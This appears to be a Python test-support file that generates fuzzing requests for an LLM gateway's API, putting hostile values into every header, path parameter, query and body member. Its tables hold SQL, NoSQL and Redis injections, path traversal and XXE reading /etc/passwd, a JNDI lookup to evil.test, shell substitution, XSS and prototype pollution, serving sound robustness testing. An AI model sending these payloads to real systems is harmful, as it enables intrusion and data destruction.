"""What has broken other programs, and where in a request it can be put."""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote_from_bytes

from tests.support.routes import Route

#: As text, where text is asked for. Lone surrogates can only be said in JSON.
TEXTS: dict[str, str] = {
    "sql or": "' OR '1'='1",
    "sql drop": "'; DROP TABLE entries; --",
    "sql union": "x' UNION SELECT digest, id FROM keys --",
    "sql comment": "acme'/**/--",
    "sql like": "%",
    "sql any": "_" * 11,
    "nosql": '{"$ne": null}',
    "nosql where": "'; return true; var x='",
    "redis": "x\r\nFLUSHALL\r\n",
    "path": "../../../../etc/passwd",
    "path encoded": "..%2f..%2facme",
    "path windows": "..\\..\\acme",
    "path double": "%252e%252e%252f",
    "crlf": "x\r\nset-cookie: a=b\r\n\r\n<html>",
    "crlf unicode": "x\u010a\u560d\u560ay",
    "nul": "acme\x00",
    "nul in front": "\x00acme",
    "controls": "\x01\x1b[2J\x7f\x85",
    "homoglyph": "\u0430cme",
    "fullwidth": "\uff41\uff43\uff4d\uff45",
    "case": "ACME",
    "space": " acme ",
    "right to left": "\u202eemca",
    "zero width": "ac\u200bme",
    "combining": "a\u0301cme",
    "astral": "\U0001f600" * 9,
    "not a character": "\ufffe\uffff",
    "format": "{0.__class__.__mro__}%s%n%x%(key)s",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "jndi": "${jndi:ldap://evil.test/a}",
    "shell": "$(id)`id`;id|id&&id",
    "html": "<script>alert(1)</script>\"'>",
    "xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "long": "A" * 100_000,
    "number": "9" * 5000,
    "negative": "-1",
    "float": "1e309",
    "nan": "NaN",
    "date": "9999-12-31T23:59:59-14:00",
    "no date": "0000-00-00",
    "empty": "",
    "true": "true",
    "null": "null",
    "acme": "acme",
}
#: As JSON, where something else is asked for.
VALUES: dict[str, str] = {
    "null": "null",
    "true": "true",
    "zero": "0",
    "minus": "-1",
    "huge": "1" + "0" * 400,
    "real": "1.5",
    "overflow": "1e999",
    "array": "[]",
    "arrays": "[[[]]]",
    "object": "{}",
    "operator": '{"$gt": ""}',
    "prototype": '{"__proto__": {"role": "admin"}, "__class__": "x"}',
    "surrogate": '"\\ud800"',
    "surrogates": '"\\udfff\\ud800acme"',
    "escaped nul": '"acme\\u0000"',
    "deep": "[" * 200 + "]" * 200,
    "words": '["acme", "globex"]',
    "no json": "acme'--",
    "twice": '"a", "organisation": "acme"',
}
HEADERS = (
    *("x-force-route", "x-request-id", "x-session-id", "x-claude-code-session-id"),
    *("x-pointsman-privacy", "x-pointsman-priority", "x-pointsman-cache", "x-pointsman-tags"),
    *("x-openwebui-user-id", "x-pointsman-organisation", "x-forwarded-for", "cookie", "origin"),
    *("anthropic-version", "anthropic-beta", "openai-beta", "openai-organization", "accept"),
    *("content-type", "content-encoding", "content-length", "user-agent", "traceparent"),
    *("authorization", "x-api-key", "host", "if-none-match", "range", "last-event-id"),
)
QUERIES = (
    *("since", "until", "before", "organisation", "key", "user", "deployment", "tier", "outcome"),
    *("cache", "model", "by", "limit", "cursor", "format", "scope", "route", "tag", "after_id"),
    *("buckets", "before_id", "id", "all", "unheard-of"),
)
_CHAT = {"model": "auto", "messages": [{"role": "user", "content": "Hi"}], "user": "u"}
_PROMPT = {"model": "auto", "prompt": "Hi"}
_INPUT = {"model": "auto", "input": "Hi"}
#: A body that is right, for each path that takes one; its members are poisoned one by one.
BODIES: dict[str, dict[str, object]] = {
    "/v1/chat/completions": {**_CHAT, "stream": False, "max_tokens": 5, "n": 1, "tools": []},
    "/v1/completions": {**_PROMPT, "suffix": "x", "max_tokens": 5},
    "/v1/embeddings": _INPUT,
    "/v1/responses": {**_INPUT, "previous_response_id": None, "store": True, "instructions": "x"},
    "/v1/messages": {**_CHAT, "max_tokens": 5, "system": "x", "metadata": {"user_id": "u"}},
    "/v1/messages/count_tokens": _CHAT,
    "/v1/rerank": {"model": "auto", "query": "q", "documents": ["d"]},
    "/api/chat": {**_CHAT, "stream": False, "options": {}, "keep_alive": 5, "format": "json"},
    "/api/generate": {**_PROMPT, "stream": False, "system": "x", "context": [1]},
    "/api/embed": _INPUT,
    "/api/embeddings": _PROMPT,
    "/api/show": {"model": "auto", "name": "auto"},
    "/v1/complete": {"prompt": "Hi", "force_tier": "simple", "max_tokens": 5},
    "/v1/route": {**_CHAT, "prompt": "p", "message": "m", "query": "q", "shift": 5},
    "/api/v1/chat": {"message": "Hi"},
    "/v1/files": {"purpose": "batch", "file": "x"},
    "/v1/batches": {
        "input_file_id": "file_acme",
        "endpoint": "/v1/embeddings",
        "completion_window": "24h",
        "metadata": {"a": "b"},
        "output_expires_after": {"anchor": "created_at", "seconds": 3600},
    },
    "/v1/batches/{batch_id}/cancel": {},
    "/v1/feedback": {"request_id": "req_x", "rating": 1, "comment": "c"},
    "/v1/keys": {
        "name": "n",
        "organisation": "globex",
        "role": "user",
        "everywhere": False,
        "expires": None,
        "models": ["weak"],
        "tiers": None,
        "routes": None,
        "privacy": None,
        "limits": {"concurrent": 1},
        "budgets": {"per_day": 1},
    },
    "/v1/keys/{id}": {"name": "n", "active": True, "expires": None, "budgets": {"per_day": 1}},
    "/v1/keys/{id}/rotate": {"grace_s": 60},
    "/v1/experiments": {
        "a": "weak",
        "b": "strong",
        "of": "deployments",
        "name": "n",
        "share": 0.5,
        "organisation": "globex",
        "until_decided": False,
    },
    "/v1/experiments/{id}/stop": {"reason": "r"},
    "/v1/learning/revert": {"version": "shipped", "organisation": "globex"},
    "/v1/retrain": {"organisation": "globex"},
    "/dashboard/session": {"key": "k"},
    "/v1/config/reload": {},
    "/v1/organisations": {"id": "globex", "name": "n"},
    "/v1/organisations/{id}": {"name": "n"},
    "/v1/organisations/{id}/members": {"person": "p@example.org", "role": "user"},
    "/v1/organisations/{id}/members/{member}": {"role": "user"},
    "/v1/organisations/{id}/provider-keys": {"provider": "openai", "key": "sk-x"},
    "/v1/organisations/{id}/deployments": {
        "id": "own",
        "provider": "openai",
        "model": "m",
        "tier": "simple",
        "base_url": "http://127.0.0.1:9/v1",
        "api_key": "sk-x",
    },
}


class Poisoned:
    """One place of one route's requests."""

    def __init__(self, route: Route, kind: str, name: str) -> None:
        """`kind`: header, parameter, query or member; `name` of it."""
        self.route, self.kind, self.name = route, kind, name

    def __str__(self) -> str:
        """For messages."""
        return f"{self.route}, {self.kind} {self.name}"

    @property
    def poisons(self) -> dict[str, str]:
        """What is put there."""
        if self.kind != "member":
            return TEXTS
        return {**{name: json.dumps(text) for name, text in TEXTS.items()}, **VALUES}

    def request(self, poison: str) -> tuple[str, bytes, list[tuple[bytes, bytes]], bytes]:
        """Path, query, headers and body."""
        path, query, headers = self.route.at(), b"", []
        body = self._body()
        raw = poison.encode("utf-8", "surrogatepass")
        if self.kind == "parameter":
            path = self.route.at(dict.fromkeys(self.route.parameters, poison))
        elif self.kind == "query":
            query = f"{self.name}={quote_from_bytes(raw)}".encode()
        elif self.kind == "header":
            headers = [(self.name.encode(), raw)]
        return path, query, headers, self._with(poison, body) if self.kind == "member" else body

    def _body(self) -> bytes:
        members = BODIES.get(self.route.path.path, {"model": "auto"})
        return json.dumps(members).encode() if self.route.method == "POST" else b""

    def _with(self, poison: str, body: bytes) -> bytes:
        members = {name: json.dumps(value) for name, value in json.loads(body).items()}
        members[self.name] = poison
        inside = ", ".join(f"{json.dumps(name)}: {text}" for name, text in members.items())
        return f"{{{inside}}}".encode()


def places(routes: list[Route]) -> Iterator[Poisoned]:
    """Every header, parameter, query parameter and member of every route."""
    for route in routes:
        for header in HEADERS:
            yield Poisoned(route, "header", header)
        for parameter in route.parameters:
            yield Poisoned(route, "parameter", parameter)
        for query in QUERIES:
            yield Poisoned(route, "query", query)
        if route.method == "POST":
            for member in BODIES.get(route.path.path, {"model": "auto"}):
                yield Poisoned(route, "member", member)
